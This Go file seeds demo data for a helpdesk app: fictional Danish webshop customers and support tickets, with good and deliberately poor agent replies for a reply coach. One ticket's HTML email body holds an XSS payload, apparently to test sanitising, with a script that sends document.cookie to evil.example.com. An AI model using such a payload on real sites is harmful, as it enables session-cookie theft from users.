package demo

import (
	"context"
	"fmt"
	"time"

	"coachdesk/internal/coach"
	"coachdesk/internal/coaching"
	"coachdesk/internal/desk"
	"coachdesk/internal/store"
)

// The hand-written demo: a few weeks of a Danish webshop's support, told through the store's own
// operations (CreateTicket, AddMessage, UpdateTicket) with the clock set back, so threads, first
// response times and the audit trail read as they would have happened. Agents' replies are both
// good (acknowledge first, strong words, open questions, taking ownership) and poor ("Men …",
// "måske/prøv", "Har du tjekket …?", blame, sending the customer to the carrier, shouting), so the
// reply coach has something to show on almost every ticket.

type demoCustomer struct {
	key, name, email, org, notes string
}

var demoCustomers = []demoCustomer{
	{"jens", "Jens Hansen", "jens.hansen@example.dk", "", "Stamkunde. Har haft en forsinket levering før i år."},
	{"mette", "Mette Larsen", "mette.larsen@example.dk", "", ""},
	{"lars", "Lars Pedersen", "lars@tomrer-pedersen.example.dk", "Tømrer Pedersen ApS", "Firmakunde – fakturaer skal have EAN 5790001234567."},
	{"birgitte", "Birgitte Nielsen", "birgitte.n@example.dk", "", ""},
	{"soeren", "Søren Madsen", "soeren.madsen@example.dk", "", "Har klaget over refusionstider to gange. Vær grundig."},
	{"karen", "Karen Jensen", "karen.jensen@example.dk", "", ""},
	{"anders", "Anders Kristensen", "anders@cafe-havnen.example.dk", "Café Havnen", "Bestiller kaffebønner på abonnement til caféen."},
	{"hanne", "Hanne Christensen", "hanne.c@example.dk", "", "Foretrækker at blive ringet op efter kl. 16."},
	{"peter", "Peter Sørensen", "peter.soerensen@example.dk", "", ""},
	{"louise", "Louise Rasmussen", "louise.r@example.dk", "", ""},
	{"rasmus", "Rasmus Holm", "rasmus@fysionord.example.dk", "Fysio Nord", ""},
	{"ida", "Ida Vestergaard", "ida.vestergaard@example.dk", "", ""},
	{"thomas", "Thomas Møller", "thomas.moeller@example.dk", "", ""},
	{"camilla", "Camilla Lund", "camilla.lund@example.dk", "", ""},
	{"emma", "Emma Thompson", "emma.thompson@example.co.uk", "", "Writes in English. Lives in Copenhagen."},
	{"johan", "Johan Lindqvist", "johan.lindqvist@example.se", "", "Svensk kunde, leverancer til Malmö."},
	{"frederik", "Frederik Bach", "frederik.bach@example.dk", "", ""},
	{"signe", "Signe Kjær", "signe.kjaer@example.dk", "", ""},
	{"bo", "Bo Winther", "bo@revisorhuset.example.dk", "Revisorhuset A/S", "Bogholderiet betaler kun med faktura og EAN."},
	{"maja", "Maja Østergaard", "maja.oestergaard@example.dk", "", ""},
	{"nanna", "Nanna Dalgaard", "nanna.d@example.dk", "", ""},
	{"oliver", "Oliver Brandt", "oliver.brandt@example.dk", "", ""},
}

// step is one thing that happens on a ticket, after after the step before it.
type step struct {
	after  time.Duration
	who    string // "" = the customer; "anna", "mikkel", "lene"
	note   bool
	body   string
	status desk.Status // with a body: set with the reply; alone: a status change from the sidebar
}

type scene struct {
	customer string
	subject  string
	channel  desk.Channel
	priority desk.Priority
	lang     string
	tags     []string
	assignee string // "" = unassigned
	daysAgo  float64
	html     bool // the first message arrived as HTML e-mail
	first    string
	steps    []step
}

const h = time.Hour

func c(after time.Duration, body string) step { return step{after: after, body: body} }
func r(after time.Duration, who, body string) step {
	return step{after: after, who: who, body: body}
}
func rs(after time.Duration, who string, st desk.Status, body string) step {
	return step{after: after, who: who, body: body, status: st}
}
func note(after time.Duration, who, body string) step {
	return step{after: after, who: who, note: true, body: body}
}
func set(after time.Duration, who string, st desk.Status) step {
	return step{after: after, who: who, status: st}
}

var scenes = []scene{
	{customer: "jens", subject: "Hvor er min pakke?", channel: desk.ChannelEmail, priority: desk.PriorityHigh, tags: []string{"levering"}, assignee: "mikkel", daysAgo: 2.2,
		first: "Hej.\nJeg bestilte en kaffemaskine for otte dage siden (ordre 55120), og den er stadig ikke kommet. Track & trace hos GLS har ikke ændret sig siden fredag. Hvad sker der?\n\nMvh Jens",
		steps: []step{
			r(3*h, "mikkel", "Hej Jens.\nMen du må kontakte GLS, det er ikke vores ansvar når pakken er sendt. Har du tjekket din postkasse?\nMvh Mikkel"),
			c(5*h, "Det er da jer, jeg har handlet hos! Jeg har ikke tid til at ringe rundt til fragtfirmaer."),
			note(1*h, "lene", "Mikkel: vi tager selv kontakten til GLS – kunden skal ikke sendes videre. Kan du overtage og give en status i dag?"),
		}},
	{customer: "mette", subject: "Faktura trukket to gange", channel: desk.ChannelEmail, priority: desk.PriorityUrgent, tags: []string{"faktura", "refusion"}, assignee: "anna", daysAgo: 6,
		first: "Hej, jeg kan se på min konto, at I har trukket 1.299,00 kr. to gange for ordre 55342. Jeg vil gerne have pengene retur hurtigst muligt.",
		steps: []step{
			r(2*h, "anna", "Hej Mette,\nHvor er det ærgerligt, at du er blevet trukket to gange – det er ikke rart at opdage, når man holder øje med sin konto. Jeg har sat den ene betaling retur i dag, så beløbet står på din konto inden for 3–5 bankdage. Du får en kreditnota på mail med det samme.\nVenlig hilsen\nAnna"),
			c(20*h, "Tak, kreditnotaen er kommet. Dejligt med så hurtigt svar."),
			set(1*h, "anna", desk.StatusSolved),
		}},
	{customer: "lars", subject: "Kan ikke logge ind på firmakontoen", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"login", "b2b"}, assignee: "", daysAgo: 0.3,
		first: "Jeg kan ikke logge ind. Der står bare 'forkert adgangskode', selvom jeg har nulstillet den to gange i dag. Vi skal bestille materialer til en byggeplads i morgen."},
	{customer: "birgitte", subject: "Returnering af kjole", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"retur"}, assignee: "mikkel", daysAgo: 9,
		first: "Hej! Kjolen passede desværre ikke. Hvordan returnerer jeg den og får den næste størrelse? Ordre 54877.",
		steps: []step{
			rs(4*h, "mikkel", desk.StatusPending, "Hej Birgitte,\nDu kan måske prøve at finde returlabelen på vores side. Det, der tit sker, er at folk bestiller den forkerte størrelse.\nMvh Mikkel"),
			c(26*h, "Jeg kan ikke finde nogen returlabel på siden. Hvor ligger den?"),
			rs(2*h, "anna", desk.StatusPending, "Hej Birgitte\nUndskyld, at det har været bøvlet at finde. Jeg har sendt returlabelen direkte til din mail nu, og jeg har reserveret kjolen i en størrelse større til dig. Hvilken farve vil du have – den samme blå, eller den grønne?\nVenlig hilsen\nAnna"),
		}},
	{customer: "soeren", subject: "Refusion mangler stadig", channel: desk.ChannelEmail, priority: desk.PriorityHigh, tags: []string{"refusion", "retur"}, assignee: "anna", daysAgo: 1.5,
		first: "Jeg returnerede en vinterjakke for tre uger siden og har STADIG ikke fået mine penge. Det er simpelthen ikke i orden! Ordre 54410.",
		steps: []step{
			note(1*h, "anna", "Pakken blev scannet ind på lageret i Kolding den 3. – refusionen er ikke sat i gang. Har bedt økonomi om at køre den manuelt i dag."),
			r(1*h, "anna", "Hej Søren\nDu har helt ret i, at tre uger er alt for længe at vente på sine penge, og det beklager jeg. Jakken kom frem til vores lager, men refusionen blev ikke startet. Jeg har sat den igennem manuelt i dag, og pengene står på din konto senest torsdag.\nVenlig hilsen\nAnna"),
		}},
	{customer: "karen", subject: "Forkert vare leveret", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"levering", "fejl"}, assignee: "mikkel", daysAgo: 12,
		first: "Jeg har bestilt en blå sofapude, men fået en grøn. Ordre 54102. Hvad gør jeg?",
		steps: []step{
			r(6*h, "mikkel", "Hej Karen\nDu har klikket på den grønne i kurven, det kan ses på ordren. Du kan bytte den, hvis du selv betaler fragten.\nMikkel"),
			c(10*h, "Det har jeg bestemt ikke! Jeg har et skærmbillede af kurven med den blå pude."),
			note(1*h, "lene", "Lagerfejl – plukket forkert (samme hylde). Vi betaler fragten begge veje. Mikkel, husk: vi lægger ikke skylden på kunden."),
			r(1*h, "lene", "Hej Karen\nDet er jeg virkelig ked af – fejlen er vores, puden blev plukket forkert på lageret. Jeg har sendt den blå pude af sted i dag, og du får en returlabel til den grønne, så det koster dig ingenting. Tak fordi du sendte skærmbilledet.\nVenlig hilsen\nLene"),
			set(30*h, "lene", desk.StatusSolved),
			set(96*h, "", desk.StatusClosed),
		}},
	{customer: "anders", subject: "Kaffeabonnement – skift til 4 kg om måneden", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"abonnement", "b2b"}, assignee: "anna", daysAgo: 15,
		first: "Hej\nVi vil gerne gå fra 2 kg til 4 kg espressobønner om måneden fra næste levering. Samme adresse som altid.\n\nAnders, Café Havnen",
		steps: []step{
			r(3*h, "anna", "Hej Anders\nHvor dejligt, at caféen har brug for mere kaffe! Jeg har ændret abonnementet til 4 kg fra næste levering den 1., og prisen pr. kg falder samtidig til firmaprisen. Hvilken dag i ugen passer levering bedst for jer?\nVenlig hilsen\nAnna"),
			c(5*h, "Tirsdag formiddag er perfekt. Tak!"),
			rs(1*h, "anna", desk.StatusSolved, "Hej Anders\nSå er det noteret: levering tirsdag formiddag fra næste måned. God dag i caféen!\nAnna"),
			set(120*h, "", desk.StatusClosed),
		}},
	{customer: "anders", subject: "Bønnerne er ikke kommet", channel: desk.ChannelPhone, priority: desk.PriorityHigh, tags: []string{"abonnement", "levering"}, assignee: "mikkel", daysAgo: 0.9,
		first: "(Telefon) Anders fra Café Havnen ringer: tirsdagens levering af 4 kg bønner er ikke kommet, og de løber tør i morgen.",
		steps: []step{
			r(1*h, "mikkel", "Hej Anders\nSOM JEG SAGDE I TELEFONEN er pakken sendt. Den kommer nok i dag. Prøv at spørge naboerne.\nMikkel"),
		}},
	{customer: "hanne", subject: "Støvsugeren larmer og lugter brændt", channel: desk.ChannelWeb, priority: desk.PriorityHigh, tags: []string{"reklamation"}, assignee: "anna", daysAgo: 4,
		first: "Min robotstøvsuger (ordre 55011) er begyndt at larme meget, og der lugter brændt, når den kører. Den er kun tre uger gammel.",
		steps: []step{
			r(2*h, "anna", "Hej Hanne\nDet lyder utrygt med en brændt lugt – sluk den og tag den ud af laderen, indtil vi har løst det. Jeg har sendt en ny robotstøvsuger af sted i dag, og GLS henter den gamle samtidig, så du ikke skal pakke noget. Hvornår er du hjemme i morgen?\nVenlig hilsen\nAnna"),
			c(6*h, "Tak! Jeg er hjemme efter kl. 16. Ring gerne, inden I kommer."),
			rs(1*h, "anna", desk.StatusPending, "Hej Hanne\nJeg har bedt chaufføren ringe til dig, inden han kommer efter kl. 16. Skriv endelig, hvis noget driller med den nye.\nAnna"),
		}},
	{customer: "peter", subject: "Rabatkode virker ikke", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"fejl"}, assignee: "mikkel", daysAgo: 20,
		first: "Rabatkoden SOMMER20 fra jeres nyhedsbrev giver fejl i kurven: 'Koden er ugyldig'.",
		steps: []step{
			r(8*h, "mikkel", "Hej Peter\nHar du skrevet koden med store bogstaver? Har du læst betingelserne? Koden gælder ikke på tilbudsvarer.\nMikkel"),
			c(3*h, "Ja, med store bogstaver. Og der er ingen tilbudsvarer i kurven."),
			rs(2*h, "anna", desk.StatusSolved, "Hej Peter\nØv, hvor irriterende, når en rabatkode driller. Koden var sat til at udløbe en dag for tidligt – det er rettet nu. Jeg har trukket 20 % fra på din ordre manuelt, så du ikke skal gøre mere.\nVenlig hilsen\nAnna"),
			set(100*h, "", desk.StatusClosed),
		}},
	{customer: "louise", subject: "Spørgsmål om levering til pakkeshop", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"levering"}, assignee: "", daysAgo: 0.1,
		first: "Kan I levere til en pakkeshop i stedet for min adresse? Jeg er ikke hjemme i dagtimerne."},
	{customer: "rasmus", subject: "Faktura uden EAN-nummer", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"faktura", "b2b"}, assignee: "lene", daysAgo: 3,
		first: "Hej\nVores bogholderi kan ikke betale faktura 88231, fordi EAN-nummeret mangler. Kan I sende en ny?\n\nRasmus Holm\nFysio Nord",
		steps: []step{
			r(2*h, "lene", "Hej Rasmus\nTak fordi du siger til med det samme. Jeg har sendt en ny faktura med jeres EAN-nummer til bogholderiet, og betalingsfristen er rykket 14 dage, så I ikke får rykkergebyr. Hvilken mailadresse skal vi bruge til fakturaer fremover?\nVenlig hilsen\nLene"),
			c(4*h, "bogholderi@fysionord.example.dk – tak for hjælpen."),
			rs(1*h, "lene", desk.StatusSolved, "Hej Rasmus\nDen er gemt på jeres konto, så alle fremtidige fakturaer går direkte til bogholderiet med EAN. God dag!\nLene"),
		}},
	{customer: "ida", subject: "Hvornår er vinterstøvlerne på lager igen?", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"lager"}, assignee: "mikkel", daysAgo: 7,
		first: "Hej, jeg vil gerne købe vinterstøvlerne i str. 38, men de er udsolgt. Hvornår kommer de hjem?",
		steps: []step{
			rs(1*h, "mikkel", desk.StatusPending, "Hej Ida\nMåske i næste uge. Jeg tror, der kommer en levering, men jeg ved det ikke.\nMvh Mikkel"),
		}},
	{customer: "thomas", subject: "Pakken er beskadiget", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"reklamation", "levering"}, assignee: "anna", daysAgo: 10,
		first: "Pakken med min blender kom helt mast frem, og glaskanden er knust. Jeg har billeder. Ordre 54660.",
		steps: []step{
			r(3*h, "anna", "Hej Thomas\nØv, hvor skuffende at pakke en knust blender ud. Jeg har sendt en ny af sted i dag, og du skal ikke sende den gamle retur – bare smid glasskårene ud forsigtigt. Send gerne billederne som svar på denne mail, så tager jeg sagen med fragtfirmaet.\nVenlig hilsen\nAnna"),
			c(2*h, "Billederne er vedhæftet. Tak for hurtig hjælp!"),
			set(1*h, "anna", desk.StatusSolved),
			set(90*h, "", desk.StatusClosed),
		}},
	{customer: "camilla", subject: "Opsig abonnement", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"abonnement"}, assignee: "mikkel", daysAgo: 5,
		first: "Jeg opsagde mit abonnement på Min side for en måned siden, men I har trukket 249 kr. igen. Jeg vil have pengene retur.",
		steps: []step{
			r(5*h, "mikkel", "Hej Camilla\nDu har ikke opsagt korrekt. Det står tydeligt i betingelserne, at opsigelsen skal bekræftes på mail. Men vi kan godt stoppe det nu.\nMikkel"),
			c(3*h, "Jeg har aldrig fået nogen mail om at bekræfte noget!!"),
			note(1*h, "lene", "Bekræftelsesmails fejlede i uge 12 (kendt fejl). Refunder og beklag – ingen skyld på kunden."),
		}},
	{customer: "emma", subject: "Order never arrived", channel: desk.ChannelEmail, priority: desk.PriorityHigh, lang: "en", tags: []string{"levering"}, assignee: "anna", daysAgo: 3.5,
		first: "Hi,\nI ordered a pair of running shoes two weeks ago (order 55002) and they never arrived. The tracking page says 'delivered' but there is nothing at my door. Could you help?\n\nBest,\nEmma",
		steps: []step{
			r(2*h, "anna", "Hi Emma,\nHow frustrating to see 'delivered' with nothing at your door – I'm sorry. I've opened a claim with the carrier and sent you a new pair today, so you don't have to wait for the investigation. You'll get a new tracking link within the hour.\nKind regards,\nAnna"),
			c(30*h, "They arrived this morning. Thank you so much!"),
			set(1*h, "anna", desk.StatusSolved),
		}},
	{customer: "emma", subject: "Exchange for a bigger size", channel: desk.ChannelWeb, priority: desk.PriorityLow, lang: "en", tags: []string{"retur"}, assignee: "mikkel", daysAgo: 0.6,
		first: "Hi again! The new running shoes are half a size too small. Can I exchange them for a 39?",
		steps: []step{
			r(1*h, "mikkel", "Hi Emma\nBut you should have checked the size guide before ordering. Have you tried wearing them in a bit? Maybe they will stretch.\nMikkel"),
		}},
	{customer: "johan", subject: "Leverans till Malmö", channel: desk.ChannelEmail, priority: desk.PriorityNormal, lang: "sv", tags: []string{"levering"}, assignee: "anna", daysAgo: 8,
		first: "Hej!\nJag beställde en kaffebryggare (order 54720) för leverans till Malmö, men paketet står fortfarande i Köpenhamn enligt spårningen. När kommer det?\n\nMvh Johan",
		steps: []step{
			r(3*h, "anna", "Hej Johan\nVad tråkigt att paketet har fastnat på vägen. Jag har pratat med PostNord, och det skickas vidare till Malmö i morgon bitti. Du får ett sms när det kan hämtas.\nVänliga hälsningar\nAnna"),
			set(50*h, "anna", desk.StatusSolved),
		}},
	{customer: "frederik", subject: "Oplader passer ikke til tablet", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"retur"}, assignee: "", daysAgo: 0.05,
		first: "Jeg har købt en oplader, som I anbefalede til min tablet, men stikket passer ikke. Hvad gør jeg?"},
	{customer: "signe", subject: "Ændring af leveringsadresse", channel: desk.ChannelPhone, priority: desk.PriorityNormal, tags: []string{"levering"}, assignee: "anna", daysAgo: 1,
		first: "(Telefon) Signe er flyttet og vil have ordre 55390 leveret til Søndergade 12, 8000 Aarhus C i stedet for den gamle adresse.",
		steps: []step{
			rs(1*h, "anna", desk.StatusSolved, "Hej Signe\nTillykke med den nye bolig! Jeg har ændret adressen på ordre 55390 til Søndergade 12, 8000 Aarhus C, og pakken bliver sendt dertil i morgen. Du får sporingslinket på sms.\nVenlig hilsen\nAnna"),
		}},
	{customer: "bo", subject: "Rykker på betalt faktura", channel: desk.ChannelEmail, priority: desk.PriorityHigh, tags: []string{"faktura", "b2b"}, assignee: "mikkel", daysAgo: 2.8,
		first: "Vi har modtaget en rykker med gebyr på faktura 88104, men den blev betalt den 2. via bankoverførsel. Fjern venligst gebyret.\n\nBo Winther, Revisorhuset A/S",
		steps: []step{
			r(4*h, "mikkel", "Hej Bo\nHar I betalt til det rigtige kontonummer? Det plejer at være fordi folk bruger et gammelt kontonummer. Du må kontakte jeres bank og få dem til at spore betalingen.\nMvh Mikkel"),
			c(2*h, "Vi er et revisionsfirma. Vi har betalt til det kontonummer, der står på JERES faktura. Jeg forventer, at I selv finder betalingen."),
		}},
	{customer: "maja", subject: "Høretelefoner – kun lyd i den ene side", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"reklamation"}, assignee: "anna", daysAgo: 0.8,
		first: "Mine nye høretelefoner spiller kun i venstre side. Jeg har opdateret dem og genstartet min telefon.",
		steps: []step{
			r(2*h, "anna", "Hej Maja\nDet er irriterende med lyd i kun den ene side, og godt, at du allerede har prøvet at opdatere og genstarte. Hvad sker der, når du nulstiller dem ved at holde begge knapper inde i ti sekunder? Virker det ikke, sender jeg et nyt par med det samme.\nVenlig hilsen\nAnna"),
		}},
	{customer: "nanna", subject: "Gavekort ikke modtaget", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"faktura"}, assignee: "lene", daysAgo: 13,
		first: "Jeg købte et gavekort på 500 kr. til min mor, men mailen med koden er aldrig kommet. Det er hendes fødselsdag i morgen!",
		steps: []step{
			r(1*h, "lene", "Hej Nanna\nDet må være stressende, når fødselsdagen er i morgen – det løser vi nu. Jeg har sendt gavekortet igen til din mail, og jeg har også vedhæftet det som PDF, så du kan printe det. Hvilken mail skal jeg sende en kopi til, hvis den ikke dukker op inden for ti minutter?\nVenlig hilsen\nLene"),
			c(1*h, "Den er kommet nu. Tusind tak!"),
			set(1*h, "lene", desk.StatusSolved),
			set(100*h, "", desk.StatusClosed),
		}},
	{customer: "oliver", subject: "Dobbelt ordre ved en fejl", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"faktura", "refusion"}, assignee: "mikkel", daysAgo: 17,
		first: "Jeg kom til at trykke to gange på 'Betal', og nu har jeg to ordrer (55001 og 55002) på den samme airfryer. Kan I annullere den ene?",
		steps: []step{
			rs(3*h, "mikkel", desk.StatusSolved, "Hej Oliver\nDet er din egen fejl, når du trykker to gange, men jeg har annulleret 55002. Pengene kommer retur.\nMikkel"),
			set(120*h, "", desk.StatusClosed),
		}},
	{customer: "jens", subject: "Kvittering til garantien", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"faktura"}, assignee: "anna", daysAgo: 24,
		first: "Hej, jeg skal bruge en kvittering for min stavblender fra sidste år til garantien. Kan I sende den?",
		steps: []step{
			rs(2*h, "anna", desk.StatusSolved, "Hej Jens\nSelvfølgelig – jeg har sendt kvitteringen til din mail som PDF. Du kan også altid finde den under Mine ordrer. Hvad er der sket med blenderen? Så hjælper jeg også gerne med selve garantisagen.\nVenlig hilsen\nAnna"),
			set(100*h, "", desk.StatusClosed),
		}},
	{customer: "soeren", subject: "Ombytning af jakke", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"retur"}, assignee: "mikkel", daysAgo: 26,
		first: "Jeg vil gerne bytte min vinterjakke til en str. L. Ordre 54410.",
		steps: []step{
			r(30*h, "mikkel", "Hej\nSend den retur, så kigger vi på det.\nMikkel"),
			c(4*h, "Hvordan sender jeg den retur? Der var ingen label i pakken."),
			r(26*h, "mikkel", "Hej Søren\nSom jeg allerede har skrevet, skal du sende den retur. Labelen kan du printe selv. Har du kigget på hjemmesiden?\nMikkel"),
			set(48*h, "mikkel", desk.StatusSolved),
			set(120*h, "", desk.StatusClosed),
		}},
	{customer: "karen", subject: "Spørgsmål til størrelser på dyner", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"produkt"}, assignee: "", daysAgo: 0.4,
		first: "Findes jeres helårsdyne i 140x220? Jeg kan kun se 135x200 på siden."},
	{customer: "hanne", subject: "Tak for god service", channel: desk.ChannelEmail, priority: desk.PriorityLow, tags: []string{"ros"}, assignee: "anna", daysAgo: 18,
		first: "Jeg ville bare sige tak til Anna for hjælpen med min kaffemaskine sidste måned. Det er sjældent, man bliver behandlet så godt!",
		steps: []step{
			rs(5*h, "anna", desk.StatusSolved, "Hej Hanne\nTusind tak for de søde ord – de har gjort min dag! Jeg giver dem videre til resten af holdet. Du er altid velkommen til at skrive, hvis der er noget.\nKærlig hilsen\nAnna"),
			set(100*h, "", desk.StatusClosed),
		}},
	{customer: "thomas", subject: "Konto slettet ved en fejl?", channel: desk.ChannelEmail, priority: desk.PriorityUrgent, tags: []string{"login"}, assignee: "lene", daysAgo: 0.2,
		first: "Jeg kan ikke logge ind, og når jeg nulstiller adgangskoden, står der at kontoen ikke findes. Alle mine ordrer og mit gavekort på 750 kr. ligger derinde!",
		steps: []step{
			note(1*h, "lene", "Kontoen er fusioneret med en dublet ved oprydningen i går – ligger nu under thomas.moeller@example.dk. Gavekortet er intakt."),
		}},
	{customer: "ida", subject: "Gardiner for korte", channel: desk.ChannelWeb, priority: desk.PriorityNormal, tags: []string{"retur"}, assignee: "anna", daysAgo: 11,
		first: "Gardinerne er 20 cm kortere end beskrevet på siden. Jeg har målt to gange.",
		steps: []step{
			r(4*h, "anna", "Hej Ida\nTak fordi du målte efter – det må være irriterende, når de ikke passer til vinduerne. Du har ret i, at produktsiden viste den forkerte længde, og den er rettet nu. Jeg sender de lange gardiner i dag, og du kan bare beholde de korte.\nVenlig hilsen\nAnna"),
			set(72*h, "anna", desk.StatusSolved),
		}},
	{customer: "peter", subject: "Leveringstid til Bornholm", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"levering"}, assignee: "mikkel", daysAgo: 0.7,
		first: "Hvor lang tid tager levering til Rønne? Jeg skal bruge en gave til lørdag.",
		steps: []step{
			rs(1*h, "mikkel", desk.StatusPending, "Hej Peter\nDet ved jeg ikke. Du må kontakte DAO, de kører til Bornholm.\nMikkel"),
		}},
	{customer: "louise", subject: "Fejl i min bestilling", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"fejl"}, assignee: "anna", daysAgo: 2,
		html:  true,
		first: `<div style="font-family:Arial"><p>Hej Coachdesk-butikken,</p><p>Jeg har fået <b>to</b> sengesæt i stedet for <i>ét</i> (ordre <a href="https://shop.example.dk/ordre/55311">55311</a>). Her er det, jeg bestilte:</p><ul><li>1 × sengesæt, hvid, 140x200</li><li>1 × hovedpude</li></ul><p>Hovedpuden mangler til gengæld.</p><p>Venlig hilsen<br>Louise</p></div>`,
		steps: []step{
			r(2*h, "anna", "Hej Louise\nTak for den grundige beskrivelse – det gjorde det nemt at finde fejlen. Jeg har sendt hovedpuden af sted i dag, og du skal ikke sende det ekstra sengesæt retur; behold det med vores undskyldning.\nVenlig hilsen\nAnna"),
		}},
	{customer: "frederik", subject: "Se billedet af fejlen", channel: desk.ChannelEmail, priority: desk.PriorityNormal, tags: []string{"reklamation"}, assignee: "", daysAgo: 0.15,
		html:  true,
		first: `<p>Hej, min <strong>bluetooth-højttaler</strong> er gået i stykker. Se billedet:</p><img src="x" onerror="alert('hacked')"><script>document.location='https://evil.example.com/?c='+document.cookie</script><p onclick="steal()">Klik her for at se ordren</p><p>Mvh Frederik</p>`},
	{customer: "maja", subject: "Pakke leveret til forkert adresse", channel: desk.ChannelWeb, priority: desk.PriorityHigh, tags: []string{"levering"}, assignee: "mikkel", daysAgo: 1.2,
		first: "Ifølge PostNord er min pakke leveret på Vestergade 4 – jeg bor på Vestergade 40. Ordre 55377.",
		steps: []step{
			r(2*h, "mikkel", "Hej Maja\nDu har tastet adressen forkert, der står Vestergade 4 på ordren. Prøv at gå hen og spørg, om de har den.\nMikkel"),
			c(1*h, "Jeg har lige tjekket min ordrebekræftelse – der står Vestergade 40!"),
			note(30*time.Minute, "anna", "Adressefeltet klipper sidste ciffer af, når der er mellemrum efter husnummeret – kendt fejl i checkout. Ikke kundens fejl."),
		}},
	{customer: "oliver", subject: "Hvordan rengør jeg airfryeren?", channel: desk.ChannelWeb, priority: desk.PriorityLow, tags: []string{"produkt"}, assignee: "anna", daysAgo: 4.5,
		first: "Kurven i airfryeren er blevet helt brun i bunden. Kan den tåle opvaskemaskine?",
		steps: []step{
			rs(3*h, "anna", desk.StatusPending, "Hej Oliver\nGodt spørgsmål – det er der mange, der er i tvivl om. Kurven tåler opvaskemaskine, men belægningen holder længst, hvis du lægger den i blød i varmt sæbevand og bruger en blød børste. Hvad bruger du den mest til? Så sender jeg vores guide med de bedste indstillinger.\nVenlig hilsen\nAnna"),
		}},
}

// seedTickets plays the scenes with the store's clock set back, oldest first.
func seedTickets(ctx context.Context, st *store.Store, users []desk.User) error {
	defer st.SetClock(func() time.Time { return time.Now().UTC() })
	byKey := map[string]int64{"lene": users[1].ID, "anna": users[2].ID, "mikkel": users[3].ID}
	customers := map[string]int64{}
	now := time.Now().UTC()
	_, err := st.BulkLoad(ctx, store.BulkOptions{}, func(b *store.Bulk) error {
		for i, dc := range demoCustomers {
			id, err := b.AddCustomer(store.BulkCustomer{Name: dc.name, Email: dc.email, Organisation: dc.org, Notes: dc.notes,
				CreatedAt: now.Add(-time.Duration(400-i*9) * 24 * h)})
			if err != nil {
				return err
			}
			customers[dc.key] = id
		}
		return nil
	})
	if err != nil {
		return err
	}
	order := make([]int, len(scenes))
	for i := range order {
		order[i] = i
	}
	// Oldest first, so ticket numbers follow the time they were opened.
	for i := 1; i < len(order); i++ {
		for j := i; j > 0 && scenes[order[j]].daysAgo > scenes[order[j-1]].daysAgo; j-- {
			order[j], order[j-1] = order[j-1], order[j]
		}
	}
	for _, i := range order {
		if err := play(ctx, st, scenes[i], byKey, customers, now); err != nil {
			return fmt.Errorf("demo: %q: %w", scenes[i].subject, err)
		}
	}
	return nil
}

// play opens the scene's ticket and runs its steps, each at its own time.
func play(ctx context.Context, st *store.Store, sc scene, users map[string]int64, customers map[string]int64, now time.Time) error {
	at := now.Add(-time.Duration(sc.daysAgo * float64(24*h)))
	st.SetClock(func() time.Time { return at })
	t, err := st.CreateTicket(ctx, desk.NewTicket{Subject: sc.subject, Body: sc.first, HTML: sc.html, CustomerID: customers[sc.customer],
		Priority: sc.priority, Channel: sc.channel, Language: sc.lang, Tags: sc.tags, AssigneeID: users[sc.assignee]})
	if err != nil {
		return err
	}
	customerWaiting := true // the ticket opens with the customer's message
	for _, s := range sc.steps {
		at = at.Add(s.after)
		if at.After(now) {
			at = now.Add(-time.Minute)
		}
		st.SetClock(func() time.Time { return at })
		switch {
		case s.body == "":
			if _, err := st.UpdateTicket(ctx, t.Number, users[s.who], desk.Change{Status: &s.status}); err != nil {
				return err
			}
		default:
			kind := desk.KindReply
			if s.note {
				kind = desk.KindNote
			}
			m := desk.NewMessage{Kind: kind, Body: s.body, UserID: users[s.who], SetStatus: s.status}
			if kind == desk.KindReply && m.UserID != 0 {
				m.Coaching = demoCoaching(s.body, sc.lang, !customerWaiting)
			}
			if _, err := st.AddMessage(ctx, t.Number, m); err != nil {
				return err
			}
			if kind == desk.KindReply {
				customerWaiting = m.UserID == 0
			}
		}
	}
	return nil
}

// demoCoaching is what the coach would have stored had the demo's replies been sent through the composer;
// the poor ones went out past the gate, as they would have before the coach was switched on.
func demoCoaching(body, lang string, noAcknowledge bool) *desk.Coaching {
	rec := coaching.Record(demoCoach.Lint(body, coach.Options{Lang: lang, NoAcknowledge: noAcknowledge}))
	if rec.Errors() > 0 {
		rec.Overridden, rec.OverrideReason = true, "Sendt før coachen blev slået til."
	}
	return rec
}

var demoCoach = coach.Default()
